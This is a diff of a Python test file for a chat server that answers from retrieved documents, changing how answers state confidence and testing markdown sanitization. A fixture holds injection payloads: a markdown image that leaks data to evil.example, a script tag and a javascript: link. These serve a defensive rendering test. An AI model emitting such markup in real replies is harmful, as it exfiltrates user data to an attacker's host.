@@ -11,7 +11,7 @@ from prefrag.components.loop.follow_up_rewriter import ASKS_BACK
 from prefrag.components.reader import extractive_reader
 from prefrag.components.text.sentences import shown_sentences
 from prefrag.pipelines.loading import find
-from prefrag.server.chat_text import write_content
+from prefrag.server.chat_text import strip_notes, write_content
 from prefrag.server.conversation import split_conversation
 from prefrag.server.readiness import find_outages
 from prefrag.server.served_pipelines import prepare_pipeline
@@ -24,11 +24,8 @@ from tests.server.test_chat import deltas, streamed
 from tests.server.test_front_ends import content, rendered, reply
 
 Served = Callable[..., TestClient]
-SURE, UNSURE = [[["Beta", 0.91]]], [[["Beta", 0.12]]]
-NOT_ANSWERED = (
-    "Found, not answered.\n\n> [1] alpha: Alpha was built by Beta.\n\n"
-    "Note: *a reader's guess, 12% likely: Beta*.\n\nSources:\n[1] alpha (local)"
-)
+SURE, PROBABLE, UNSURE = [[["Beta", 0.91]]], [[["Beta", 0.55]]], [[["Beta", 0.12]]]
+NOT_ANSWERED = "Found, not answered.\n\n> [1] alpha: Alpha was built by Beta.\n\nSources:\n[1] alpha (local)"
 
 
 @pytest.fixture
@@ -43,11 +40,20 @@ def reading(served: Served) -> Served:
 
 
 class TestChat:
-    def test_an_answer_says_how_likely_it_is(self, reading: Served):
-        assert content(reading(SURE)) == (
-            "Beta [1]\n\nNote: a reader found this without a language model, 91% likely.\n\n"
-            "Sources:\n[1] alpha (local): “Alpha was built by Beta.”"
-        )
+    @pytest.mark.parametrize(
+        ("readings", "given", "remembered"),
+        [
+            (SURE, "Stated: Alpha was built by **Beta**. [1] (alpha, local)", "Beta"),
+            (PROBABLE, "Probably: Alpha was built by Beta. [1] (alpha, local)", "Found, not answered."),
+        ],
+    )
+    def test_an_answer_is_a_sentence_behind_the_word_that_says_how_sure_it_is(
+        self, reading: Served, readings: Any, given: str, remembered: str
+    ):
+        text = content(reading(readings), sources=["local"])
+
+        assert text == f"{given}\n\nNote: a reader found this without a language model.\n\nSources:\n[1] alpha (local)"
+        assert strip_notes(text) == remembered
 
     def test_without_an_answer_the_sentences_come_first_and_are_not_remembered_as_words_of_the_assistant(
         self, reading: Served
@@ -66,7 +72,7 @@ class TestChat:
         assert last["prefrag"] | {"answer": "", "answered": False, "label": None} == last["prefrag"]
         assert last["prefrag"]["guess"] == "Beta"
         assert [one["sentence"] for one in last["prefrag"]["evidence"]] == ["Alpha was built by Beta."]
-        assert "Read: Beta [1] (12% likely, an answer is given from 60%)\n" in deltas(steps, "reasoning_content")
+        assert "Read: Beta [1] (12% likely, not given)\n" in deltas(steps, "reasoning_content")
 
     def test_what_nobody_may_guess_at_has_no_guess(self, reading: Served):
         text = content(reading([[]]), sources=["local"])
@@ -103,12 +109,13 @@ class TestStrangersMarkdown:
     HOSTILE = "![t](https://evil.example/?leak=1) <script>x</script> [click](javascript:x) [1]: https://evil.example"
 
     @pytest.mark.parametrize("guess", ["Beta", "**Beta** ![t](https://evil.example/?leak=1) *", "# <b>[x](y)"])
-    def test_loads_and_hides_nothing(self, reading: Served, guess: str):
+    @pytest.mark.parametrize("likely", [0.1, 0.55, 0.9])
+    def test_loads_and_hides_nothing(self, reading: Served, guess: str, likely: float):
         local = {"alpha": f"Alpha was built by Beta. {self.HOSTILE}\n\n# Alpha\nSources:\n[2] built {self.HOSTILE}"}
 
-        text = content(reading([[[guess, 0.1]]], local=local), sources=["local"])
+        text = content(reading([[[guess, likely]]], local=local), sources=["local"])
 
-        allowed = {"inline", "text", "softbreak", "em_open", "em_close"}
+        allowed = {"inline", "text", "softbreak", "strong_open", "strong_close"}
         blocks = {"blockquote_open", "blockquote_close", "paragraph_open", "paragraph_close"}
         assert rendered(text) <= allowed | blocks
         assert text.count("\nSources:") == 1
